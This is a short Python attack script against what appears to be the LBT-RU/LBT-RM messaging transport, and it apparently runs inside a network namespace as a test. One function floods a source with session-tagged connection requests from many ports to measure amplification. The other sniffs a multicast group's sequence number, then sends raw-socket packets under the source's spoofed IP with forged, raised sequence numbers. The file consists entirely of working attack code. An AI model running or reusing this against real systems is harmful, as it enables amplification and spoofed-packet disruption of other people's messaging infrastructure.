"""Attacks of somebody on the network who knows the name of a session; run in the namespace of a host.

`requests IP PORT SESSION COUNT` asks an LBT-RU source for connections from COUNT ports and proves nothing; prints bytes
sent and bytes received until there are some and none for three seconds. `numbers IP UCAST SESSION GROUP PORT RAISE`
joins the LBT-RM group, and in the name of the source sends datagrams whose numbers and trails are raised by RAISE;
prints how many.
"""

from __future__ import annotations

import select
import socket
import struct
import sys
import time


def requests(ip: str, port: int, session: int, count: int) -> None:
    packet = struct.pack("!BBHBBHI", 6, 1, 0, 0, 8, 0, session)
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(count)]
    for one in sockets:
        one.sendto(packet, (ip, port))
    got, quiet, end = 0, 0, time.monotonic() + 60
    while (got == 0 or quiet < 30) and time.monotonic() < end:
        quiet += 1
        for ready in select.select(sockets, [], [], 0.1)[0]:
            got += len(ready.recv(65536))
            quiet = 0
    print(len(packet) * count, got)


def udp(source: str, group: str, port: int, payload: bytes) -> bytes:
    """An IP packet; the kernel fills in checksum and length of the IP header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 16, 17, 0, socket.inet_aton(source), socket.inet_aton(group))
    return ip + struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload


def numbers(ip: str, ucast: int, session: int, group: str, port: int, raised: int) -> None:
    spy = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    spy.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    spy.bind((group, port))
    spy.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton("0.0.0.0"))
    while True:
        seen = spy.recv(65536)
        if seen[0] == 0 and struct.unpack("!HI", seen[2:8]) == (ucast, session):
            break
    (sqn,) = struct.unpack("!I", seen[8:12])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 16)
    sent = 0
    for i in range(16):
        forged = (sqn + raised + i) & 0xFFFFFFFF
        header = struct.pack("!BBHIIIBBH", 0, 0, ucast, session, forged, forged, 0x80, 3, 0)
        sent += raw.sendto(udp(ip, group, port, header), (group, port)) > 0
    print(sent)


if __name__ == "__main__":
    kind, ip, port, session, *rest = sys.argv[1:]
    if kind == "requests":
        requests(ip, int(port), int(session, 16), int(rest[0]))
    else:
        numbers(ip, int(port), int(session, 16), rest[0], int(rest[1]), int(rest[2]))
